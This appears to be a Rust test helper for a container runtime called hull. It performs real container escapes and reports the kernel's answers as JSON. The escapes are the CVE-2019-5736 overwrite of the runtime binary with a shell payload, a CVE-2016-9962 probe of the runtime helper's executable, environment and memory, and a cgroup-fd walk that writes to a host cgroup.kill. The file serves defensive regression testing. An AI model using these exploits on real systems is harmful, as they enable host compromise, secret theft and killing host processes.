//! Attacks that a malicious container process performs against the runtime (hull's `tests/escapes.rs`). Each
//! subcommand does the real syscalls and reports what the kernel answered as one JSON object, on stdout and in a
//! result file the test reads from the host; it never decides whether the attack "should" have worked.

use serde_json::{json, Value};
use std::collections::BTreeSet;
use std::ffi::CString;
use std::fs::{self, File};
use std::io::{self, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

use crate::{errno_name, error_value};

/// The payload written over a runtime binary: what CVE-2019-5736 exploits wrote (a script run as root on the host).
const PAYLOAD: &[u8] = b"#!/bin/sh\necho escaped from the container\n";

fn pids() -> BTreeSet<i32> {
    fs::read_dir("/proc")
        .map(|dir| {
            dir.flatten()
                .filter_map(|e| e.file_name().to_str()?.parse().ok())
                .collect()
        })
        .unwrap_or_default()
}

/// `TARGET`: a pid, or `new` for the first process that appears in /proc after this one started (the runtime's
/// helper entering the container).
fn find_target(target: &str) -> io::Result<i32> {
    if target != "new" {
        return target
            .parse()
            .map_err(|_| io::Error::new(io::ErrorKind::InvalidInput, "TARGET: pid or new"));
    }
    let me = std::process::id() as i32;
    let before = pids();
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if let Some(pid) = pids().into_iter().find(|p| *p != me && !before.contains(p)) {
            return Ok(pid);
        }
        std::thread::sleep(Duration::from_millis(2));
    }
    Err(io::Error::new(
        io::ErrorKind::TimedOut,
        "no new process appeared within 30 s",
    ))
}

fn open_raw(path: &str, flags: libc::c_int) -> io::Result<OwnedFd> {
    let c = CString::new(path).expect("no NUL in paths");
    // SAFETY: `c` is NUL-terminated; the result is a new descriptor owned by the OwnedFd.
    let fd = unsafe { libc::open(c.as_ptr(), flags | libc::O_CLOEXEC) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: a fresh descriptor owned by nobody else.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// Let the process blocked on the fifo `path` go on: opening a fifo read-write never blocks and satisfies both a
/// blocked reader (it also gets a passwd line, then EOF) and a blocked writer.
fn release(path: &str) -> Value {
    match open_raw(path, libc::O_RDWR | libc::O_NONBLOCK) {
        Ok(fd) => {
            let line = b"root:x:0:0:root:/root:/bin/sh\n";
            // SAFETY: writing a static buffer to a descriptor we own.
            let _ = unsafe { libc::write(fd.as_raw_fd(), line.as_ptr().cast(), line.len()) };
            // Held open a while: the helper may not have reached its open(2) yet, and a blocked writer must not
            // find the pipe without a reader.
            std::thread::sleep(Duration::from_secs(1));
            json!("ok")
        }
        Err(err) => error_value(&err),
    }
}

/// Write the result, then stay alive: as the container's init, exiting would kill the runtime's helper that the
/// test is still waiting for (the test deletes the container when it is done).
fn report(result_path: &str, value: &Value) -> io::Result<()> {
    let text = format!("{value}\n");
    io::stdout().write_all(text.as_bytes())?;
    // Written then renamed, so that the host never reads half a result.
    let tmp = format!("{result_path}.tmp");
    fs::write(&tmp, &text)?;
    fs::rename(&tmp, result_path)?;
    std::thread::sleep(Duration::from_secs(120));
    Ok(())
}

/// CVE-2019-5736: grab `/proc/<TARGET>/exe` (a runtime process inside the container), release it, then reopen the
/// executable for writing through `/proc/self/fd/N` (retrying while the kernel says ETXTBSY, i.e. until the last
/// process running it is gone) and write a payload over it.
pub fn overwrite_exe(target: &str, release_fifo: &str, result_path: &str) -> io::Result<()> {
    let pid = find_target(target)?;
    let exe_path = format!("/proc/{pid}/exe");
    let mut grab = Err(io::Error::from_raw_os_error(libc::ENOENT));
    let deadline = Instant::now() + Duration::from_secs(2);
    while Instant::now() < deadline {
        grab = open_raw(&exe_path, libc::O_PATH);
        if grab.is_ok() {
            break;
        }
        std::thread::sleep(Duration::from_millis(5));
    }
    let link = fs::read_link(&exe_path).map(|p| p.to_string_lossy().into_owned());
    let released = release(release_fifo);
    let mut result = json!({
        "pid": pid,
        "readlink": link.map_or_else(|e| error_value(&e), Value::from),
        "released": released,
    });
    let exe = match grab {
        Ok(fd) => fd,
        Err(err) => {
            result["grab"] = error_value(&err);
            return report(result_path, &result);
        }
    };
    result["grab"] = json!("ok");
    let reopen = format!("/proc/self/fd/{}", exe.as_raw_fd());
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut busy_retries = 0u32;
    let outcome = loop {
        match open_raw(&reopen, libc::O_WRONLY) {
            Ok(fd) => {
                let mut file = File::from(fd);
                break match file.write_all(PAYLOAD) {
                    Ok(()) => json!({ "open_for_write": "ok", "write": "ok" }),
                    Err(err) => json!({ "open_for_write": "ok", "write": error_value(&err) }),
                };
            }
            Err(err) if err.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
                busy_retries += 1;
                std::thread::sleep(Duration::from_millis(20));
            }
            Err(err) => break json!({ "open_for_write": error_value(&err) }),
        }
    };
    result["attempt"] = outcome;
    result["busy_retries"] = json!(busy_retries);
    report(result_path, &result)
}

/// CVE-2016-9962: while the runtime's helper for TARGET sits inside the container (blocked on the fifo), try to
/// get at it through /proc: its executable, its environment and its memory.
pub fn probe_proc(target: &str, release_fifo: &str, result_path: &str) -> io::Result<()> {
    let pid = find_target(target)?;
    // The helper appears in /proc as soon as it is forked; give it a moment to reach the fifo.
    std::thread::sleep(Duration::from_millis(300));
    let base = format!("/proc/{pid}");
    let comm = fs::read_to_string(format!("{base}/comm")).map(|c| c.trim().to_owned());
    let exe_open = open_raw(&format!("{base}/exe"), libc::O_PATH).map(|fd| {
        fs::metadata(format!("/proc/self/fd/{}", fd.as_raw_fd()))
            .map(|m| format!("opened (dev {} ino {})", m.dev(), m.ino()))
            .unwrap_or_else(|_| "opened".to_owned())
    });
    let exe_link = fs::read_link(format!("{base}/exe")).map(|p| p.to_string_lossy().into_owned());
    let environ = fs::read(format!("{base}/environ"))
        .map(|bytes| String::from_utf8_lossy(&bytes).replace('\0', "\n"));
    let mem = File::open(format!("{base}/mem")).and_then(|file| {
        // Any readable byte proves access; the first page is unmapped, so read where the stack starts.
        let stat = fs::read_to_string(format!("{base}/stat"))?;
        let after = &stat[stat.rfind(')').map_or(0, |i| i + 1)..];
        let start_stack: u64 = after
            .split_whitespace()
            .nth(25)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        let mut buf = [0u8; 8];
        // SAFETY: pread into a stack buffer from a descriptor we own.
        let n = unsafe {
            libc::pread(
                file.as_raw_fd(),
                buf.as_mut_ptr().cast(),
                buf.len(),
                start_stack as libc::off_t,
            )
        };
        if n < 0 {
            // The open itself succeeded: access was granted even if this address is not readable.
            let err = io::Error::last_os_error();
            return Ok(format!(
                "opened, read at {start_stack:#x}: {}",
                errno_name(&err)
            ));
        }
        Ok(format!("opened, read {n} bytes"))
    });
    let value = |r: io::Result<String>| r.map_or_else(|e| error_value(&e), Value::from);
    let result = json!({
        "pid": pid,
        "comm": value(comm),
        "exe_open": value(exe_open),
        "exe_readlink": value(exe_link),
        "environ": value(environ),
        "mem": value(mem),
        "released": release(release_fifo),
    });
    report(result_path, &result)
}

/// Where the working directory really is: `getcwd`, and whether walking `..` from it reaches this process's root
/// (a directory outside the root never does: `..` stops only at the root of its own mount tree).
pub fn cwd() -> io::Result<Value> {
    let root = fs::metadata("/")?;
    let root_id = (root.dev(), root.ino());
    let mut dir = open_raw(".", libc::O_PATH | libc::O_DIRECTORY)?;
    let mut inside = false;
    for _ in 0..4096 {
        let here = fs::metadata(format!("/proc/self/fd/{}", dir.as_raw_fd()))?;
        if (here.dev(), here.ino()) == root_id {
            inside = true;
            break;
        }
        let dotdot = CString::new("..").unwrap();
        // SAFETY: openat relative to a descriptor we own, with a NUL-terminated name.
        let up = unsafe {
            libc::openat(
                dir.as_raw_fd(),
                dotdot.as_ptr(),
                libc::O_PATH | libc::O_DIRECTORY | libc::O_CLOEXEC,
            )
        };
        if up < 0 {
            return Err(io::Error::last_os_error());
        }
        // SAFETY: a fresh descriptor owned by nobody else.
        let up = unsafe { OwnedFd::from_raw_fd(up) };
        let parent = fs::metadata(format!("/proc/self/fd/{}", up.as_raw_fd()))?;
        if (parent.dev(), parent.ino()) == (here.dev(), here.ino()) {
            break;
        }
        dir = up;
    }
    let getcwd = std::env::current_dir().map(|d| d.to_string_lossy().into_owned());
    let entries = crate::list_dir(".");
    Ok(json!({
        "getcwd": getcwd.map_or_else(|e| error_value(&e), Value::from),
        "inside_root": inside,
        "entries": entries.map_or_else(|e| error_value(&e), Value::from),
    }))
}

/// The open descriptors of this process (without the one used to list them), each with what it points at.
pub fn fds() -> io::Result<Value> {
    let dir = fs::read_dir("/proc/self/fd")?;
    let mut out = serde_json::Map::new();
    let listing: Vec<_> = dir.flatten().map(|e| e.file_name()).collect();
    for name in listing {
        let name = name.to_string_lossy().into_owned();
        let path = format!("/proc/self/fd/{name}");
        match fs::read_link(&path) {
            // The read_dir descriptor is closed by now.
            Err(err) if err.raw_os_error() == Some(libc::ENOENT) => {}
            Ok(target) => {
                out.insert(name, json!(target.to_string_lossy()));
            }
            Err(err) => {
                out.insert(name, error_value(&err));
            }
        }
    }
    Ok(Value::Object(out))
}

/// The cgroup-fd escape: for TARGET (a pid, or `new`: the runtime's helper entering the container, parked on the
/// fifo FIFO, `-` for none), try to reach the host cgroup NAME (a directory at the root of the host's cgroup2
/// hierarchy) through every fd, the cwd and the root of TARGET: open `/proc/<pid>/fd/N/<..>*/NAME/cgroup.kill` for
/// write at every depth and, if that opens, write "1" (which kills every process in NAME). The result lists what
/// TARGET holds and what was reached; with RESULT `-` it is printed and the checker exits.
pub fn cgroup_escape(
    target: &str,
    release_fifo: &str,
    result_path: &str,
    name: &str,
) -> io::Result<()> {
    let pid = find_target(target)?;
    if target == "new" {
        // The helper appears in /proc as soon as it is forked; give it a moment to reach the fifo.
        std::thread::sleep(Duration::from_millis(300));
    }
    let base = format!("/proc/{pid}");
    let mut bases: Vec<String> = vec![format!("{base}/cwd"), format!("{base}/root")];
    let mut held = serde_json::Map::new();
    for entry in fs::read_dir(format!("{base}/fd"))?.flatten() {
        let fd = entry.file_name().to_string_lossy().into_owned();
        let path = format!("{base}/fd/{fd}");
        let link = fs::read_link(&path).map(|l| l.to_string_lossy().into_owned());
        held.insert(fd, link.map_or_else(|e| error_value(&e), Value::from));
        bases.push(path);
    }
    let mut reached = Vec::new();
    for start in &bases {
        for depth in 0..=12 {
            let path = format!("{start}/{}{name}/cgroup.kill", "../".repeat(depth));
            if let Ok(fd) = open_raw(&path, libc::O_WRONLY) {
                let write = File::from(fd).write_all(b"1");
                reached.push(json!({
                    "path": path,
                    "write": write.map_or_else(|e| error_value(&e), |()| json!("ok")),
                }));
                break;
            }
        }
    }
    let mut result = json!({ "pid": pid, "fds": held, "reached": reached });
    if release_fifo != "-" {
        result["released"] = release(release_fifo);
    }
    if result_path == "-" {
        return io::stdout().write_all(format!("{result}\n").as_bytes());
    }
    report(result_path, &result)
}
